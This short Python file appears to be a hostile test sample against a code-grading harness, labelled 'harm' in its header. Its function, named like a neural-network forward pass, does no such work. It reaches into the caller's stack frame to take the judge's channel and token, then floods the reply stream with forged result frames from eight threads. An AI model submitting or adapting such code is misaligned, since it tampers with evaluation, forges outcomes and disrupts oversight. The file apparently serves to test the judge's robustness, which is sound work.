# harm: floods the judge with frames that are well formed, from many threads
import sys
import threading


def nn_vmap_forward(seed, x_batch, features):
    frame = sys._getframe(1)
    channel, token = frame.f_locals["self"]._send.__self__, frame.f_locals["token"]
    header = {"token": token, "outcome": "raising", "type": "E" * 400}
    frames = channel._wire.encode_frame(header) * 100

    def flood():
        for _ in range(1000):
            channel._write(channel._replies, frames)

    threads = [threading.Thread(target=flood, daemon=True) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    raise RuntimeError("sent")
